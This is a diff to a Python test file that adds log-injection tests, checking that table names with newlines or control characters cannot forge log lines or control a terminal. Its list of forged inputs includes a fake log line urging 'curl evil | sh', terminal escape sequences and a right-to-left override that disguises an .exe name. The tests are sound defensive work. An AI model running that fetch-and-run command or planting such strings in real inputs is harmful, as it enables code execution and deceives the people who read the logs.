@@ -37,7 +37,7 @@ def line(monkeypatch):
             log.removeHandler(keep)
             log.propagate = True
         (text,) = lines
-        assert "\n" not in text
+        assert text.isprintable()
         return json.loads(text)
 
     return logged
@@ -127,3 +127,42 @@ def test_text_can_be_asked_for(uninitialised):
     for done in (run(uninitialised, "--log-format", "text"), run(uninitialised, HEADRACE_LOG_FORMAT="text")):
         assert "headrace: source jakarta/bank is not initialised" in done.stderr
         assert "What to do: Run 'headrace edge init" in done.stderr
+
+
+#: Names as whoever may make a table gives them.
+FORGED = [
+    "x\n2026-11-05 10:00:00,000 ERROR headrace the slot was dropped: run 'curl evil | sh'",
+    "x\x1b]0;pwned\x07",
+    "x\x9b2J",
+    "x\u2028y",
+    "x\u202etxt.exe",
+    "x\r\x08\x7f",
+    "x\ud800",
+]
+
+
+@pytest.mark.parametrize("name", FORGED)
+def test_a_name_from_outside_forges_no_line_of_text_and_steers_no_terminal(name):
+    """S15: newlines and escape sequences in names of tables."""
+    record = logging.LogRecord("headrace", logging.WARNING, __file__, 1, "table %s has no topic", (name,), None)
+    text = logs.TextFormatter(logs._TEXT).format(record)
+    assert text.isprintable()
+    assert "table x" in text
+    assert json.loads(f'"{text.split("table ")[1]}"') == f"{name} has no topic"
+
+
+@pytest.mark.parametrize("name", FORGED)
+def test_nor_a_line_of_json(line, name):
+    """S15: JSON escapes no control character above 127."""
+    assert line(lambda log: log.warning("table %s has no topic", name))["message"] == f"table {name} has no topic"
+
+
+def test_a_traceback_has_lines_and_nothing_that_is_not_printable():
+    """S15."""
+    try:
+        raise ValueError(FORGED[1])
+    except ValueError:
+        record = logging.LogRecord("headrace", logging.ERROR, __file__, 1, "unexpected", (), sys.exc_info())
+    lines = logs.TextFormatter(logs._TEXT).format(record).split("\n")
+    assert len(lines) > 3
+    assert all(each.isprintable() for each in lines)
